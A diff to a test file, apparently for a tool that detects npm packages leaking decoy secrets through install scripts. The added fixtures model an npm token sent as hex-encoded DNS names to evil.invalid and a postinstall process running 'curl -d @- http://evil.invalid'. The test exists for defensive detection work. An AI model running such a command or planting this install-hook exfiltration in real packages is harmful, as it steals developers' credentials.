@@ -8,6 +8,42 @@ import { reportSchema } from '../../../../src/report/report.js';
 import { alertAt, evidence, PROJECT, pkg, REFUSED, scriptsOf, treeOf } from '../../evidence.js';
 import { GET } from '../../requests.js';
 
+const leak = {
+  secret: 'npm token',
+  host: 'evil.invalid',
+  port: null,
+  via: 'dns',
+  where: 'name',
+  encoding: 'hex',
+  count: 3,
+  first: 1_795_226_323_000,
+  last: 1_795_226_324_000,
+  asked: '6e706d5f.evil.invalid',
+  clientPorts: [],
+} as const;
+const dataNames = {
+  parent: 'evil.invalid',
+  via: 'dns',
+  example: '6e706d5f.evil.invalid',
+  names: 30,
+  payload: 900,
+  severity: 'certain',
+  first: 1_795_226_323_000,
+  last: 1_795_226_324_000,
+  clientPorts: [],
+} as const;
+const packages = [
+  pkg('.', ['a', 'b']),
+  pkg('node_modules/a', [], ['postinstall']),
+  pkg('node_modules/b', [], ['postinstall']),
+];
+const tree = treeOf([
+  ...scriptsOf('a', 10),
+  ...scriptsOf('b', 11),
+  [2, 20, 10, `${PROJECT}/node_modules/a`, 'node setup.js'],
+  [2, 30, 11, `${PROJECT}/node_modules/b`, 'curl -d @- http://evil.invalid'],
+]);
+
 describe('what the gateway saw', () => {
   it('a decoy on its way out is critical, and names decoy, host and package', () => {
     const contacts = new Contacts();
